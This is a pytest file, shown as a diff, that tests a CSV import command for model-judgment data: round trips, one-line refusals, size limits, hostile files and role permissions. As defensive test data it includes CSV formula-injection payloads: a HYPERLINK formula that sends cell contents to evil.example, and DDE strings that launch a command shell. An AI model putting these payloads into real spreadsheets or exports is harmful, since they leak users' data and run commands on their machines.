@@ -1,0 +1,204 @@
+"""Judgment import: export → import round trip, one-line refusals with nothing written, hostile files, roles."""
+
+from __future__ import annotations
+
+import io
+
+import pandas as pd
+import pytest
+
+from analytics.cli import main
+from analytics.exceptions import InvalidInputError, NotFoundError, PermissionDeniedError
+from analytics.judging import (
+    EXPORT_COLUMNS,
+    MAX_IMPORT_BYTES,
+    add_consensus,
+    add_judgment,
+    export_judgments_csv,
+    import_judgments,
+)
+from analytics.team import User, add_user
+from analytics.workspace import Workspace
+from tests.fixtures.judgments import MODEL_NAMES, insert_suites, register_models
+
+SUITE = "suite-a"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
+
+
+def person(name: str, role: str) -> User:
+    return User(name=name, role=role, disabled=False, locked_until="", created="")
+
+
+def fresh(tmp_path, name: str) -> Workspace:
+    """A workspace with the same models and suite as the exporting one, and no judgments."""
+    workspace = Workspace(tmp_path / name)
+    register_models(workspace, MODEL_NAMES)
+    insert_suites(workspace, [SUITE])
+    return workspace
+
+
+@pytest.fixture
+def exported(tmp_path):
+    """An export of a workspace with judgments (one replaced, formula notes) and two consensus rows."""
+    source = fresh(tmp_path, "source")
+    add_judgment(source, annotator="ana", model="model0", label="invariant", suite_id=SUITE, confidence=0.9, note=FORMULA)
+    add_judgment(source, annotator="ana", model="model0", label="variant", suite_id=SUITE, note="-3 dB, on reflection\nsecond line")
+    add_judgment(source, annotator="ben", model="model0", label="borderline", suite_id=SUITE, note="@SUM(A1)")
+    add_judgment(source, annotator="ben", model="model1", label="invariant")  # on no suite
+    add_consensus(source, model="model0", suite_id=SUITE, label="variant", reason="+cmd|' /C calc'!A0", adjudicator="lee")
+    path = tmp_path / "export.csv"
+    path.write_text(export_judgments_csv(source), encoding="utf-8")
+    return source, path
+
+
+def comparable(workspace: Workspace) -> pd.DataFrame:
+    table = pd.read_csv(io.StringIO(export_judgments_csv(workspace)), keep_default_na=False)
+    return table.drop(columns="id")
+
+
+def cli(argv: list[str], capsys) -> tuple[int, str, str]:
+    code = main(argv)
+    captured = capsys.readouterr()
+    return code, captured.out, captured.err
+
+
+def counts(workspace: Workspace) -> tuple[int, int]:
+    return tuple(workspace.query_one(f"SELECT COUNT(*) AS n FROM {table}")["n"] for table in ("judgments", "consensus"))
+
+
+def test_round_trip_into_a_fresh_workspace(exported, tmp_path, capsys):
+    source, path = exported
+    target = fresh(tmp_path, "target")
+    code, out, err = cli(["import-judgments", str(path), "--workspace", str(target.root), "--json"], capsys)
+    assert (code, err) == (0, "")
+    assert '"judgments": 4' in out and '"consensus": 1' in out and '"skipped": 0' in out
+    pd.testing.assert_frame_equal(comparable(target), comparable(source))  # same rows, same counts, formulas neutralised again
+    notes = {row["note"] for row in target.query("SELECT note FROM judgments")}
+    assert {FORMULA, "@SUM(A1)", "-3 dB, on reflection\nsecond line"} <= notes  # stored as typed, not with the export's quote
+    assert target.query_one("SELECT reason FROM consensus")["reason"] == "+cmd|' /C calc'!A0"
+
+
+def test_importing_twice_adds_nothing_the_second_time(exported, tmp_path):
+    _, path = exported
+    target = fresh(tmp_path, "target")
+    import_judgments(target, path)
+    again = import_judgments(target, path)
+    assert (again.judgments, again.consensus, again.skipped) == (0, 0, 5) and counts(target) == (4, 1)
+
+
+def rewrite(path, column: str, row: int, value: str) -> None:
+    table = pd.read_csv(path, dtype=str, keep_default_na=False)
+    table.loc[row, column] = value
+    table.to_csv(path, index=False)
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "message"),
+    [
+        ("model", "nomodel", "row 3: model 'nomodel' is not registered here; register it"),
+        ("suite_id", "nosuite", "row 3: suite 'nosuite' is not in this workspace"),
+        ("label", "maybe", "row 3: label 'maybe' is not one of invariant, borderline, variant"),
+        ("record", "vote", "row 3: record 'vote' is neither"),
+        ("confidence", "1.5", "row 3: confidence '1.5' is not a number in [0, 1]"),
+        ("confidence", "nan", "row 3: confidence 'nan' is not a number"),
+        ("created", "yesterday", "row 3: created 'yesterday' is not an ISO time"),
+        ("annotator", " ", "row 3: annotator is empty"),
+        ("run_id", "norun", "row 3: run 'norun' is not in this workspace"),
+        ("model", "'=cmd|' /C calc'!A0", "row 3: model \"=cmd|' /C calc'!A0\" is not registered"),  # a formula cell, unquoted
+    ],
+)
+def test_a_bad_row_exits_2_with_one_line_and_writes_nothing(exported, tmp_path, capsys, column, value, message):
+    _, path = exported
+    rewrite(path, column, 1, value)
+    target = fresh(tmp_path, "target")
+    code, out, err = cli(["import-judgments", str(path), "--workspace", str(target.root)], capsys)
+    assert code == 2 and out == "" and err.count("\n") == 1
+    assert f"{path}: {message}" in err and err.rstrip().endswith("nothing was imported")
+    assert counts(target) == (0, 0)  # the good rows before and after it were not written either
+
+
+def test_the_first_bad_row_is_named_and_the_others_counted(exported, tmp_path):
+    _, path = exported
+    rewrite(path, "model", 0, "gone")
+    rewrite(path, "label", 3, "unsure")
+    with pytest.raises(NotFoundError, match=r"row 2: model 'gone' .* \(1 more bad rows after it\)"):
+        import_judgments(fresh(tmp_path, "target"), path)
+
+
+def test_a_consensus_row_needs_its_suite_and_reason(exported, tmp_path):
+    _, path = exported
+    rewrite(path, "reason", 4, "  ")
+    with pytest.raises(InvalidInputError, match="row 6: a consensus row needs its reason"):
+        import_judgments(fresh(tmp_path, "target"), path)
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"", "is empty; it needs the header record,id,"),
+        (b"name,label\nmodel0,variant\n", "the header must be the columns export-judgments writes"),
+        (",".join(EXPORT_COLUMNS).encode() + b",=cmd()\n", "unexpected ['=cmd()']"),
+        (",".join(EXPORT_COLUMNS).encode() + b"\njudgment,1,suite-a\n", "row 2 has 3 cells, the header 14"),
+        (",".join(EXPORT_COLUMNS).encode() + b'\n"judgment,1\n', "not valid CSV"),
+        (b"\xff\xfe\x00r\x00e\x00c", "is not UTF-8 text"),
+        (",".join(EXPORT_COLUMNS).encode() + b"\n" + b"judgment,1," + b"x" * 200_000 + b",model0" + b",x" * 10 + b"\n", "not valid CSV"),
+    ],
+)
+def test_hostile_files_are_refused_in_one_line(tmp_path, capsys, content, message):
+    target = fresh(tmp_path, "target")
+    path = tmp_path / "hostile.csv"
+    path.write_bytes(content)
+    code, _, err = cli(["import-judgments", str(path), "--workspace", str(target.root)], capsys)
+    assert code == 2 and err.count("\n") == 1 and message in err and counts(target) == (0, 0)
+
+
+def test_a_cell_past_the_limit_is_refused(exported, tmp_path):
+    _, path = exported
+    rewrite(path, "note", 0, "x" * 100_001)
+    with pytest.raises(InvalidInputError, match="row 2: note is over 100000 characters"):
+        import_judgments(fresh(tmp_path, "target"), path)
+
+
+def test_a_huge_file_is_refused_before_it_is_read(tmp_path):
+    path = tmp_path / "huge.csv"
+    with open(path, "wb") as handle:
+        handle.truncate(MAX_IMPORT_BYTES + 1)  # sparse: no disk used, and never read
+    with pytest.raises(InvalidInputError, match="MiB, over the 64 MiB an import reads"):
+        import_judgments(fresh(tmp_path, "target"), path)
+
+
+def test_missing_file(tmp_path, capsys):
+    target = fresh(tmp_path, "target")
+    code, _, err = cli(["import-judgments", str(tmp_path / "nope.csv"), "--workspace", str(target.root)], capsys)
+    assert code == 2 and "is not a file" in err
+
+
+def test_team_mode_accounts_and_roles(exported, tmp_path):
+    _, path = exported
+    target = fresh(tmp_path, "target")
+    add_user(target, "ana", "annotator", "a long enough password")
+    with pytest.raises(NotFoundError, match="row 4: annotator 'ben' is not an account of this workspace"):
+        import_judgments(target, path)  # ana's rows pass; ben has no account
+    for name, role in [("ben", "analyst"), ("lee", "analyst")]:
+        add_user(target, name, role, "a long enough password")
+    with pytest.raises(PermissionDeniedError, match="vi \\(viewer\\) may not judge models"):
+        import_judgments(target.acting_as(person("vi", "viewer")), path)
+    with pytest.raises(PermissionDeniedError, match="ana \\(annotator\\) may not record consensus labels"):
+        import_judgments(target.acting_as(person("ana", "annotator")), path)
+    with pytest.raises(PermissionDeniedError, match="row 2: ben may not import a judgment by 'ana'.*\\(2 more bad rows after it\\)"):
+        import_judgments(target.acting_as(person("ben", "analyst")), path)
+    assert counts(target) == (0, 0)
+    imported = import_judgments(target, path)  # the CLI acts as nobody: everything allowed
+    assert (imported.judgments, imported.consensus) == (4, 1)
+
+
+def test_a_blind_annotator_imports_only_assigned_models(tmp_path):
+    source = fresh(tmp_path, "source")
+    add_judgment(source, annotator="ana", model="model2", label="variant", suite_id=SUITE)
+    path = tmp_path / "ana.csv"
+    path.write_text(export_judgments_csv(source), encoding="utf-8")
+    target = fresh(tmp_path, "target")
+    add_user(target, "ana", "annotator", "a long enough password")
+    with pytest.raises(PermissionDeniedError, match="row 2: ana \\(annotator\\) may judge only the models assigned to them"):
+        import_judgments(target.acting_as(person("ana", "annotator")), path)
+    assert counts(target) == (0, 0)
